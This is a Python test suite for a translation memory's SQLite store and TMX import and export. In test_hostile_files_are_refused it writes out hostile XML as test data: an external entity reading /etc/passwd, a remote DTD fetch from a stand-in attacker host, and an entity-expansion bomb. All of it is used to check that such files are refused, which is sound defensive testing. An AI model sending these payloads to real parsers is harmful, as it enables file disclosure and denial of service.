"""The translation memory: what it finds, what it refuses, and what goes through TMX and comes back."""

from __future__ import annotations

import random
import re
import sqlite3
import stat
import unicodedata
from pathlib import Path

import pytest
from lxml import etree
from translate.storage import tmx as toolkit

from advocacy.commands import memory as command
from advocacy.errors import InputError, WriterError
from advocacy.exchange.segments import Suggestion
from advocacy.memory import likeness, store, tmx
from advocacy.memory.store import Changes, Entry, Memory, as_compared, open_memory
from advocacy.memory.tmx import read_tmx, to_tmx
from advocacy.vouching import State

LANGUAGES = ("en", "vi")
RELEASE = "Release all journalists who are held for their work, and drop every charge against them."
RELEASE_VI = "Trả tự do cho tất cả các nhà báo bị giam giữ vì công việc của họ, và hủy bỏ mọi cáo buộc."


def entry(source: str = RELEASE, target: str = RELEASE_VI, **other: object) -> Entry:
    values: dict[str, object] = {"origin": "Visits", "unit": "requests.1.text", "date": "2026-03-08", **other}
    return Entry("en", "vi", source, target, **values)  # type: ignore[arg-type]


def remember(path: Path, *entries: Entry, confidential: bool = False) -> Changes:
    with open_memory(path, write=True) as memory:
        return memory.add(entries, confidential=confidential)


def counts(changes: Changes) -> tuple[int, int, int, int]:
    return len(changes.new), len(changes.changed), changes.known, changes.left_out


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "memory.sqlite"


# ------------------------------------------------------------------ equal texts


def test_a_text_is_found_again_in_both_directions(path: Path) -> None:
    remember(path, entry())
    with open_memory(path) as memory:
        (there,) = memory.exact(RELEASE, "en", "vi")
        (back,) = memory.exact(RELEASE_VI, "vi", "en")
        assert (there.target, there.match, there.origin) == (RELEASE_VI, 100, "Visits · requests.1.text")
        assert (back.target, back.match) == (RELEASE, 100)
        assert memory.exact(RELEASE, "vi", "en") == memory.exact(RELEASE, "en", "fr") == []
        assert memory.pairs() == [("en", "vi"), ("vi", "en")]


@pytest.mark.parametrize(
    "written",
    [
        RELEASE.replace("held for", "held\nfor"),
        f"  {RELEASE}\n",
        RELEASE.replace("every charge", "every\u00a0 charge"),
    ],
    ids=["wrapped", "ends", "spaces"],
)
def test_equal_is_equal_however_it_is_wrapped(path: Path, written: str) -> None:
    remember(path, entry())
    with open_memory(path) as memory:
        assert [found.match for found in memory.exact(written, "en", "vi")] == [100]


def test_forms_of_composition_are_equal(path: Path) -> None:
    remember(path, entry(target=unicodedata.normalize("NFD", RELEASE_VI)))
    with open_memory(path) as memory:
        assert memory.exact(RELEASE, "en", "vi")[0].target == RELEASE_VI
        assert memory.exact(unicodedata.normalize("NFD", RELEASE_VI), "vi", "en")[0].target == RELEASE


def test_capitals_paragraphs_and_punctuation_are_not_equal(path: Path) -> None:
    remember(path, entry("One thing.\n\nAnother thing."))
    with open_memory(path) as memory:
        assert memory.exact("One thing.\n\nAnother thing.", "en", "vi")
        for other in ("one thing.\n\nAnother thing.", "One thing. Another thing.", "One thing.\n\nAnother thing!"):
            assert memory.exact(other, "en", "vi") == []
            assert [found.match for found in memory.fuzzy(other, "en", "vi")] == [99]


# ------------------------------------------------------------------ like texts


def test_percent_is_of_words(path: Path) -> None:
    remember(path, entry("one two three four five six seven eight nine ten"))
    with open_memory(path) as memory:

        def percent(text: str) -> int:
            return next((found.match for found in memory.fuzzy(text, "en", "vi", least=1)), 0)

        assert percent("one two three four five six seven eight nine TEN!") == 99
        assert percent("one two three four five six seven eight nine") == 90
        assert percent("one two three four five six seven eight nine ten eleven twelve") == 83
        assert percent("one two X four five six Y eight nine ten") == 80
        assert percent("ten nine") == 10
        assert percent("nothing of it at all") == percent("***") == percent("") == 0


def test_the_older_place_of_a_tone_mark_is_no_other_word(path: Path) -> None:
    remember(path, entry("x", "Quyền hội họp hoà bình"))
    with open_memory(path) as memory:
        assert memory.fuzzy("Quyền hội họp hòa bình", "vi", "en")[0].match == 99


def test_numbers_that_differ_lower_the_match(path: Path) -> None:
    words = " ".join(f"word{letter}" for letter in "abcdefghijklmnopqrs")
    remember(path, entry(f"{words} 2024"))
    with open_memory(path) as memory:
        assert memory.fuzzy(f"{words} other", "en", "vi")[0].match == 95 - likeness.NUMBERS
        assert memory.fuzzy(f"{words} 2025", "en", "vi")[0].match == 95 - likeness.NUMBERS
        assert memory.fuzzy(f"{words[:-5]}other 2024", "en", "vi")[0].match == 95
        assert memory.fuzzy(f"2024 {words.upper()}", "en", "vi")[0].match == 90  # moved: two edits, the same numbers
    assert all(found.match < 100 for found in _found(path, f"{words} 2025"))


def _found(path: Path, text: str) -> list[Suggestion]:
    with open_memory(path) as memory:
        return memory.fuzzy(text, "en", "vi")


def test_the_best_come_first_and_not_too_many(path: Path) -> None:
    texts = {f"a b c d e f g h i {letter}": f"bản {letter}" for letter in "jklmnop"}
    remember(path, *(entry(source, target, unit=target) for source, target in texts.items()))
    found = _found(path, "a b c d e f g h i m")
    assert [(each.target, each.match) for each in found] == [
        ("bản m", 100), ("bản j", 90), ("bản k", 90), ("bản l", 90), ("bản n", 90),
    ]  # fmt: skip
    with open_memory(path) as memory:
        assert memory.fuzzy("a b c d e f g h i m", "en", "vi", least=91, most=2) == found[:1]


def test_approved_then_later_then_by_name(path: Path) -> None:
    remember(
        path,
        entry(target="sau", unit="b", date="2026-03-09"),
        entry(target="trước", unit="a", date="2026-03-07"),
        entry(target="duyệt", unit="c", date="2026-01-01", state=State.APPROVED),
        entry(target="sau", unit="d", date="2026-03-01"),
    )
    with open_memory(path) as memory:
        assert [found.target for found in memory.exact(RELEASE, "en", "vi")] == ["duyệt", "sau", "trước"]
        assert memory.exact(RELEASE, "en", "vi") == memory.fuzzy(RELEASE, "en", "vi")


def test_the_order_of_adding_makes_no_difference(tmp_path: Path) -> None:
    entries = [entry(f"a b c d e f g {number}", f"bản {number}", unit=str(number)) for number in range(20)]
    remember(tmp_path / "one", *entries)
    remember(tmp_path / "two", *reversed(entries))
    assert _found(tmp_path / "one", "a b c d e f g h") == _found(tmp_path / "two", "a b c d e f g h") != []


def test_without_rapidfuzz_equal_texts_are_found(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    remember(path, entry())
    assert likeness.what_is_missing() == ""
    monkeypatch.setattr("importlib.util.find_spec", lambda name: None)
    assert "advocacy[exchange]" in likeness.what_is_missing()
    assert [found.match for found in _found(path, RELEASE)] == [100]
    assert _found(path, RELEASE + " Now.") == []


def test_twenty_thousand_entries(path: Path) -> None:
    chance = random.Random(7)  # noqa: S311
    words = [f"w{number}" for number in range(3_000)]
    entries = [
        entry(" ".join(chance.choices(words, k=chance.randint(8, 30))), f"bản {number}", unit=str(number))
        for number in range(20_000)
    ]
    assert counts(remember(path, *entries)) == (20_000, 0, 0, 0)
    with open_memory(path) as memory:
        assert len(memory) == 20_000
        for each in chance.sample(entries, 50):
            start, *rest = each.source.split()
            (best, *_) = memory.fuzzy(" ".join([*rest, start]), "en", "vi")
            assert best.target == each.target
            assert best.match == 100 * (len(rest) - 1) // (len(rest) + 1)
            assert memory.exact(each.source, "en", "vi")[0].target == each.target


# ------------------------------------------------------------------ adding


def test_what_adding_does_is_counted(path: Path) -> None:
    assert counts(remember(path, entry(), entry("Two.", "Hai.", unit="u"))) == (2, 0, 0, 0)
    assert counts(remember(path, entry(), entry("Two.", "Số hai.", unit="u"))) == (0, 1, 1, 0)
    with open_memory(path) as memory:
        assert [each.target for each in memory] == [RELEASE_VI, "Số hai."]
        changes = memory.compare([entry("Two.", "Hai.", unit="u"), entry("Three.", "Ba.")])
        assert (counts(changes), changes.changed[0][1]) == ((1, 1, 0, 0), "Số hai.")
        assert len(memory) == 2


def test_translations_of_other_units_stay_and_alternatives_too(path: Path) -> None:
    remember(path, entry(target="Một.", unit="a"), entry(target="Hai.", unit="b"))
    assert counts(remember(path, entry(target="Ba.", unit="a"), entry(target="Bốn.", unit="a"))) == (0, 2, 0, 0)
    with open_memory(path) as memory:
        assert sorted(each.target for each in memory) == ["Ba.", "Bốn.", "Hai."]


def test_what_was_approved_gives_way_only_to_what_was_approved(path: Path) -> None:
    remember(path, entry(state=State.APPROVED))
    assert counts(remember(path, entry(target="Khác."))) == (1, 0, 0, 0)
    assert counts(remember(path, entry())) == (0, 0, 1, 0)
    with open_memory(path) as memory:
        assert {each.target: each.state for each in memory}[RELEASE_VI] is State.APPROVED
    remember(path, entry(target="Đã duyệt.", state=State.APPROVED))
    with open_memory(path) as memory:
        assert [(each.target, each.state) for each in memory] == [("Đã duyệt.", State.APPROVED)]


def test_what_is_confidential_is_left_out_unless_asked_for(path: Path) -> None:
    secret = entry("Secret.", "Bí mật.", confidential=True)
    assert counts(remember(path, entry(), secret)) == (1, 0, 0, 1)
    assert "Bí mật".encode() not in path.read_bytes()
    assert counts(remember(path, secret, confidential=True)) == (1, 0, 0, 0)


@pytest.mark.parametrize(
    "bad",
    [entry(""), entry(target=" \n"), entry("a" * 20_001), entry("a\u202eb"), entry(target="a\x00b"), entry(origin="\x1b[2J")],
    ids=["empty", "blank", "long", "bidi", "control", "origin"],
)  # fmt: skip
def test_what_must_not_be_in_a_text_is_left_out(path: Path, bad: Entry) -> None:
    assert counts(remember(path, bad, entry())) == (1, 0, 0, 1)


def test_all_or_nothing(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    remember(path, entry())
    monkeypatch.setattr(store, "MAX_ENTRIES", 2)
    with pytest.raises(InputError, match="at most 2 entries"):
        remember(path, *(entry(f"Text {number}.", unit=str(number)) for number in range(3)))
    with open_memory(path) as memory:
        assert len(memory) == 1


# ------------------------------------------------------------------ the file


def test_a_memory_is_made_only_to_write_and_for_its_owner(path: Path) -> None:
    with open_memory(path) as memory:
        assert (len(memory), memory.exact("x", "en", "vi"), memory.fuzzy("x", "en", "vi")) == (0, [], [])
    assert not path.exists()
    remember(path, entry())
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [each.name for each in path.parent.iterdir()] == [path.name]
    with open_memory(path) as memory, pytest.raises(WriterError, match="readonly"):
        memory.add([entry("Other.")])


def test_an_empty_file_becomes_a_memory(path: Path) -> None:
    path.touch()
    assert counts(remember(path, entry())) == (1, 0, 0, 0)


def altered(path: Path, *statements: str) -> None:
    remember(path, entry())
    connection = sqlite3.connect(path, isolation_level=None)
    for statement in statements:
        connection.execute(statement)
    connection.close()


@pytest.mark.parametrize(
    "statements",
    [
        ["PRAGMA application_id=0"],
        ["PRAGMA user_version=0"],
        ["PRAGMA journal_mode=WAL"],
        ["DROP INDEX entry_target"],
        ["CREATE VIEW v AS SELECT 1"],
        ["CREATE TRIGGER t AFTER INSERT ON entry BEGIN DELETE FROM entry; END"],
        ["CREATE VIRTUAL TABLE f USING fts5(a)"],
        ["DROP TABLE entry", "CREATE VIEW entry AS SELECT 1 AS id"],
    ],
    ids=lambda statements: statements[-1],
)
def test_a_database_of_another_shape_is_refused(path: Path, statements: list[str]) -> None:
    altered(path, *statements)
    for write in (False, True):
        with pytest.raises(InputError, match="not a translation memory"), open_memory(path, write=write):
            pass


@pytest.mark.parametrize("content", [b"x", b"x" * 500, b"SQLite format 3\0", b"PK\x03\x04" + bytes(200)])
def test_another_file_is_refused_and_left_alone(path: Path, content: bytes) -> None:
    path.write_bytes(content)
    with pytest.raises(InputError, match=r"memory\.sqlite  This is not a translation memory of this program\."):
        remember(path, entry())
    assert path.read_bytes() == content


def test_a_newer_version_is_refused(path: Path) -> None:
    altered(path, "PRAGMA user_version=2")
    with pytest.raises(InputError, match="newer version"), open_memory(path):
        pass


def test_links_and_folders_are_refused(path: Path, tmp_path: Path) -> None:
    path.symlink_to(tmp_path / "elsewhere.sqlite")
    (tmp_path / "folder").mkdir()
    for other in (path, tmp_path / "folder"):
        with pytest.raises(InputError, match="not a file"):
            remember(other, entry())
    assert not (tmp_path / "elsewhere.sqlite").exists()


def test_a_damaged_memory_never_crashes(path: Path) -> None:
    remember(path, *(entry(f"Text {number} of many.", unit=str(number)) for number in range(60)))
    whole = path.read_bytes()
    chance = random.Random(3)  # noqa: S311
    for _ in range(150):
        broken = bytearray(whole)
        for _ in range(8):
            broken[chance.randrange(100, len(broken))] = chance.randrange(256)
        path.write_bytes(broken[: chance.choice([len(broken), chance.randrange(100, len(broken))])])
        try:
            with open_memory(path) as memory:
                list(memory)
                memory.fuzzy("Text 7 of many.", "en", "vi")
        except InputError:
            pass
        except WriterError as error:
            assert "memory.sqlite" in str(error)


def test_what_a_foreign_memory_says_is_checked_again(path: Path) -> None:
    altered(path, "UPDATE entry SET target = 'a' || char(8238) || 'b'")
    assert _found(path, RELEASE) == []
    path.unlink()
    altered(path, "UPDATE entry SET source = 'Other words.'")  # its key is still that of the first words
    assert _found(path, RELEASE) == []


def test_two_writers_wait_for_each_other(path: Path) -> None:
    remember(path, entry())
    with open_memory(path, write=True) as one, open_memory(path, write=True) as other:
        one._connection.execute("BEGIN IMMEDIATE")
        other._connection.execute("PRAGMA busy_timeout=50")
        with pytest.raises(WriterError, match="in use by another program"):
            other.add([entry("New.")])
        one._connection.execute("ROLLBACK")
        assert counts(other.add([entry("New.")])) == (1, 0, 0, 0)


# ------------------------------------------------------------------ TMX


MARKED = (
    'A **bold** word, a [link](https://example.org/?a=1&b=2), [[iccpr 9(2)]], [^n] and "<b>".\n\n- one\n    - two\n'
)


def written(tmp_path: Path, data: bytes) -> Path:
    path = tmp_path / "given.tmx"
    path.write_bytes(data)
    return path


def test_what_is_exported_comes_back(path: Path, tmp_path: Path) -> None:
    entries = [
        entry(MARKED, "Một chữ **đậm** & [[iccpr 9(2)]].\n\n- một\n    - hai"),
        entry("Hà Nội", "Hà Nội", unit="place"),
        Entry("vi", "en", "Kính gửi", "Dear", "Thư", "salutation"),
    ]
    remember(path, *entries)
    with open_memory(path) as memory:
        kept = list(memory)
        data = to_tmx(memory)
    reading = read_tmx(written(tmp_path, data), LANGUAGES, "2026-03-08")
    assert reading.left_out == ()
    assert {(each.source, each.target, each.origin, each.unit) for each in reading.entries} == {
        (each.source, each.target, each.origin, each.unit) for each in kept
    }
    with open_memory(path) as memory:
        assert counts(memory.compare(reading.entries)) == (0, 0, 3, 0)


def test_translate_toolkit_and_the_specification_agree_with_the_export() -> None:
    data = to_tmx([entry(), entry("Hà Nội", "Hà Nội")])
    units = toolkit.tmxfile.parsestring(data).units  # type: ignore[no-untyped-call]
    assert [(unit.source, unit.target) for unit in units] == [("Hà Nội", "Hà Nội"), (RELEASE, RELEASE_VI)]
    root = etree.fromstring(data)
    assert (root.tag, root.get("version")) == ("tmx", "1.4")
    required = {"creationtool", "creationtoolversion", "segtype", "o-tmf", "adminlang", "srclang", "datatype"}
    assert set(root.find("header").keys()) == required  # type: ignore[union-attr]
    assert [child.tag for child in root.iter("tu").__next__()] == ["prop", "prop", "prop", "tuv", "tuv"]


def test_an_export_has_no_dates_and_names_and_is_reproducible() -> None:
    entries = [entry(date="2026-03-08", state=State.APPROVED), entry("Two.", "Hai.", date="2027-01-02")]
    data = to_tmx(entries)
    assert data == to_tmx(reversed([entry(date="1999-12-31", state=State.APPROVED), entry("Two.", "Hai.")]))
    text = data.decode()
    assert not re.search(r"\b(?:19|20)\d\d|date|creationid|changeid|usagecount|Toolkit|root|home", text)
    assert 'creationtool="advocacy" creationtoolversion="1"' in text


def unit(english: str, vietnamese: str, attributes: str = "") -> str:
    return (
        f'<tu {attributes}><tuv xml:lang="en-GB"><seg>{english}</seg></tuv>'
        f'<tuv xml:lang="vi-VN"><seg>{vietnamese}</seg></tuv></tu>'
    )


def tmx_text(*units: str, before: str = "", header: str = 'srclang="en-GB"') -> str:
    return f'{before}<tmx version="1.4"><header {header}/><body>{"".join(units)}</body></tmx>'


def test_a_file_of_another_program_is_read(tmp_path: Path) -> None:
    declared = '<?xml version="1.0" encoding="UTF-8"?>\n<!-- [ -->\n<!DOCTYPE tmx SYSTEM "tmx14.dtd">\n'
    text = tmx_text(
        unit(
            'Release <bpt i="1">&lt;b&gt;</bpt>her<ept i="1">&lt;/b&gt;</ept> <hi>now</hi>.', "Trả tự do<ph/> cho chị."
        ),
        unit("One.", "Một.", 'changeid="NGUYEN" creationdate="20200101T000000Z" srclang="vi-VN"'),
        unit("Bad \u202e one.", "Hai."),
        unit("Two.", "Hai.<x><y>lost</y></x>").replace("</tu>", '<tuv xml:lang="en-US"><seg>2.</seg></tuv></tu>'),
        unit("a" * 20_001, "Ba."),
        '<tu><tuv xml:lang="fr"><seg>Un.</seg></tuv><tuv xml:lang="vi"><seg>Một.</seg></tuv></tu>',
        before=declared,
    )
    reading = read_tmx(written(tmp_path, text.encode()), LANGUAGES, "2026-03-08")
    assert [(each.source_language, each.source, each.target, each.origin, each.unit) for each in reading.entries] == [
        ("en", "Release her now.", "Trả tự do cho chị.", "given.tmx", ""),
        ("vi", "Một.", "One.", "given.tmx", ""),
        ("en", "Two.", "Hai.", "given.tmx", ""),
    ]
    assert {each.state for each in reading.entries} == {State.TRANSLATED}
    assert set(reading.left_out) == {
        "Codes of another program, left out of texts: 3.",
        "Elements that TMX does not know, left out of texts: 1.",
        "Texts in other languages: 1.",
        "Second texts in the same language: 1.",
        "Texts longer than 20000 characters: 1.",
        "Texts with a character that must not be in a text: 1.",
        "Units without a text and its translation: 3.",
    }


def test_a_file_cannot_approve(tmp_path: Path) -> None:
    data = to_tmx([entry(state=State.APPROVED)])
    assert [each.state for each in read_tmx(written(tmp_path, data), LANGUAGES).entries] == [State.TRANSLATED]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
def test_utf_16_and_byte_order_marks(tmp_path: Path, encoding: str) -> None:
    name = "utf-16" if encoding == "utf-16" else "utf-8"
    declared = f'<?xml version="1.0" encoding="{name}"?><!DOCTYPE tmx PUBLIC "-//LISA OSCAR:1998//DTD" "tmx14.dtd" >'
    data = tmx_text(unit("One.", "Một."), before=declared).encode(encoding)
    assert [each.target for each in read_tmx(written(tmp_path, data), LANGUAGES).entries] == ["Một."]


BOMB = '<!DOCTYPE tmx [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize(
    ("before", "words"),
    [
        ('<!DOCTYPE tmx [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
        ('<!DOCTYPE tmx [<!ENTITY % p SYSTEM "http://attack.invalid/p.dtd"> %p;]>', ""),
        (BOMB, "&c;"),
        ('<!DOCTYPE tmx SYSTEM "tmx14.dtd" [<!ENTITY x "y">]>', "&x;"),
        ('<!DOCTYPE tmx SYSTEM "tmx14.dtd" []>', ""),
        ('<!DOCTYPE tmx [<!ATTLIST tu srclang CDATA "vi">]>', ""),
        ('<!DOCTYPE tmx SYSTEM "tmx14.dtd"><!DOCTYPE tmx SYSTEM "tmx14.dtd">', ""),
        ('<!DOCTYPE tmx SYSTEM "tmx14.dtd">', "&x;"),
    ],
    ids=["xxe", "parameter", "bomb", "subset", "empty-subset", "attlist", "two", "undeclared"],
)
def test_hostile_files_are_refused(tmp_path: Path, before: str, words: str, encoding: str) -> None:
    data = tmx_text(unit(f"One {words}.", "Một."), before=before).encode(encoding)
    with pytest.raises(InputError, match="XML"):
        read_tmx(written(tmp_path, data), LANGUAGES)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "broken XML"),
        (b"\xff\xfe\x00", "UTF-16"),
        (b'<?xml version="1.0" encoding="windows-1258"?><tmx/>', "encoding other than"),
        ("é".encode("latin-1"), "UTF-8"),
        (b"<tbx/>", "not a TMX file"),
        (b"<tmx><header/></tmx>", "not a TMX file"),
        (b"<!--" * 50_000 + b"<?a" * 50_000 + b"<!DOCTYPE", "broken XML"),
        (("<!---->" * 50_000 + "<!DOCTYPE tmx [").encode(), "XML"),
        (b"<a>" * 400, "deeper"),
        (b"<tmx>" + b"<a/>" * 1_600_000 + b"</tmx>", "more than"),
        (tmx_text("</tu>" * 60_001).encode(), "more than"),
    ],
    ids=["empty", "half", "encoding", "latin", "tbx", "no-body", "comments", "prolog", "deep", "elements", "units"],
)
def test_other_files_are_refused(tmp_path: Path, data: bytes, message: str) -> None:
    with pytest.raises(InputError, match=message):
        read_tmx(written(tmp_path, data), LANGUAGES)


def test_a_large_file_is_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tmx, "MAX_BYTES", 2**20)
    with pytest.raises(InputError, match="larger than 1 MiB"):
        read_tmx(written(tmp_path, bytes(2**20 + 1)), LANGUAGES)
    with pytest.raises(InputError, match="no such file"):
        read_tmx(tmp_path / "none.tmx", LANGUAGES)


def test_a_fuzzed_file_never_crashes(tmp_path: Path) -> None:
    whole = tmx_text(unit("One <ph>x</ph>.", "Một."), before='<!DOCTYPE tmx SYSTEM "tmx14.dtd">').encode()
    chance = random.Random(5)  # noqa: S311
    for _ in range(300):
        broken = bytearray(whole)
        broken[chance.randrange(len(broken))] = chance.randrange(256)
        try:
            read_tmx(written(tmp_path, bytes(broken[: chance.randrange(len(broken) + 1)])), LANGUAGES)
            read_tmx(written(tmp_path, bytes(broken)), LANGUAGES)
        except InputError:
            pass


# ------------------------------------------------------------------ the command


def told(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, list[str]]:
    import argparse

    parser = argparse.ArgumentParser()
    parser.add_argument("--ui", default="en")
    command.declare(parser)
    status = command.run(parser.parse_args(arguments))
    return status, capsys.readouterr().out.splitlines()


def test_the_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(tmp_path)
    Path("given.tmx").write_text(tmx_text(unit(RELEASE, RELEASE_VI), unit("O<ph/>ne.", "Một.")), encoding="utf-8")
    with pytest.raises(InputError, match="There is no campaign"):
        told(capsys, "import", "given.tmx", "--apply")
    Path("campaign.yaml").write_text("kind: open-letter\n", encoding="utf-8")
    assert told(capsys, "import", "given.tmx") == (
        0,
        [
            "+ Release all journalists who are held for their work, and dr… = "
            "Trả tự do cho tất cả các nhà báo bị giam giữ vì công việc c…",
            "+ One. = Một.",
            "new 2, changed 0, known 0, not taken 0",
            "left out  Codes of another program, left out of texts: 1.",
            "2 changes; write them with --apply.",
        ],
    )
    assert not Path("memory.sqlite").exists()
    assert told(capsys, "import", "given.tmx", "--apply")[1][-1] == "wrote     memory.sqlite"
    assert told(capsys, "import", "given.tmx")[1][-1] == "Nothing would change."
    assert told(capsys, "find", RELEASE_VI) == (0, [f"100 %  vi → en  {RELEASE}    [given.tmx]"])
    assert told(capsys, "find", "xyz") == (1, ["Nothing like it is in the memory."])
    assert told(capsys, "find", "xyz", "--ui", "vi")[1] == ["Trong bộ nhớ không có câu nào giống như vậy."]
    assert told(capsys, "export", "out.tmx") == (0, ["wrote     out.tmx"])
    assert len(read_tmx(Path("out.tmx"), LANGUAGES).entries) == 2
    with pytest.raises(WriterError, match="written as tmx"):
        told(capsys, "export", "memory.sqlite")


def test_another_memory_only_when_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("given.tmx").write_text(tmx_text(unit("One.", "Một.")), encoding="utf-8")
    status, lines = told(capsys, "import", "given.tmx", "--memory", "shared/own.sqlite", "--apply")
    assert (status, lines[-1]) == (0, "wrote     shared/own.sqlite")
    assert told(capsys, "find", "One.", "--memory", "shared/own.sqlite")[0] == 0


def test_equal_texts_are_compared_as_documented() -> None:
    assert as_compared(" A  b\nc.\n\n\n- d\n  e\n") == "A b c.\n- d e"
    assert isinstance(Memory.__doc__, str)
